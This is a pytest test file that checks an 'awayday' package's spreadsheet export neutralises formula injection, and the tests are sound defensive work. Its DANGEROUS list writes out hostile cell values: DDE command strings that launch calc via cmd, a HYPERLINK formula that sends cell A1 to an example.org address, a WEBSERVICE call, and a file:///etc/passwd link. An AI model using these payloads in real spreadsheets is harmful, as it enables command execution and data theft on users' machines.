"""Spreadsheets hold no live formula, whatever people wrote; another library reads them back."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from awayday import export, packages
from awayday.export._spreadsheet import LONGEST, inert
from awayday.frames import Frames
from awayday.session import Origin
from awayday.tables import TABLES, Kind
from tests.export.test_datapackage import example, row

DANGEROUS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    '=WEBSERVICE("http://example.org")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝1+1",  # noqa: RUF001  # the full-width sign is meant
    "＋1",  # noqa: RUF001
    "'=1+1",
    "{=1+1}",
    "http://example.org",
    "mailto:a@example.org",
    "internal:'Sheet1'!A1",
    "file:///etc/passwd",
    "1e999",
    "0123",
    "TRUE",
    "_x0041_",
    "<b>&amp;</b>",
    "\x00\x07\x1b[31m",
    "\ufffe\uffff",
    "x" * 40_000,
    "🧺" * 20_000,
]


def text_columns(name: str) -> list[str]:
    return [
        column.name
        for column in TABLES[name].columns
        if column.kind in {Kind.TEXT, Kind.SLUG} and column.name != "recipe"
    ]  # which is JSON


def frames_with(texts: list[str], column: str) -> Frames:
    """Tables of as many rows as there are texts, each text in every column of that name."""
    tables = {}
    for name, table in TABLES.items():
        keys = [key for key in table.key if key != column]
        rows = []
        for number, text in enumerate(texts):
            made = row(name, Origin.REAL)
            for key in keys:
                kind = table.column(key).kind
                made[key] = number + 1 if kind is Kind.INT else f"{example(table.column(key))}-{number:03}"
            if column in text_columns(name):
                made[column] = f"{text}"
            rows.append(made)
        tables[name] = packages.frame(name, rows)
    return Frames(**tables)


def cells(path: Path) -> list[Any]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value is not None]


@pytest.mark.parametrize("column", sorted({column for name in TABLES for column in text_columns(name)}))
def test_no_text_in_any_column_becomes_a_formula_or_a_link(tmp_path: Path, column: str) -> None:
    path = export.spreadsheet(frames_with(DANGEROUS, column), tmp_path / "out.xlsx")
    found = cells(path)
    assert [cell.coordinate for cell in found if cell.data_type == "f" or cell.hyperlink] == []
    assert not [cell for cell in found if cell.data_type == "s" and cell.value[:1] in tuple("=+-@\t\r＝＋－＠")]  # noqa: RUF001
    with zipfile.ZipFile(path) as book:
        assert not [name for name in book.namelist() if "externalLink" in name or "vba" in name.lower()]
        for name in book.namelist():
            assert b"<f>" not in book.read(name)
            assert b"hyperlink" not in book.read(name)


def test_numbers_stay_numbers_and_every_row_is_there(tmp_path: Path) -> None:
    frames = frames_with(["a", "b"], "value_text")
    book = openpyxl.load_workbook(export.spreadsheet(frames, tmp_path / "out.xlsx"))
    assert book.sheetnames == ["About", *TABLES, "codebook"]
    sheet = book["answers"]
    head = [cell.value for cell in sheet[1]]
    assert head == list(TABLES["answers"].names)
    assert [line[head.index("value_num")].value for line in sheet.iter_rows(min_row=2)] == [2.5, 2.5]
    assert {line[head.index("value_text")].value for line in sheet.iter_rows(min_row=2)} == {"a", "b"}
    assert "REAL DATA" in str([cell.value for line in book["About"] for cell in line])


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=200)
@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
def test_without_its_apostrophe_a_text_is_what_it_was_but_for_control_characters(text: str) -> None:
    kept = inert(text)
    assert kept.lstrip()[:1] not in tuple("=+-@\t\r＝＋－＠")  # noqa: RUF001
    assert len(kept.encode("utf-16-le")) <= 2 * LONGEST
    cleaned = re.sub("[\x00-\x1f\x7f-\x9f\ufffe\uffff]", "", re.sub("[\n\r\t]", " ", text))
    assert kept.removeprefix("'") == cleaned
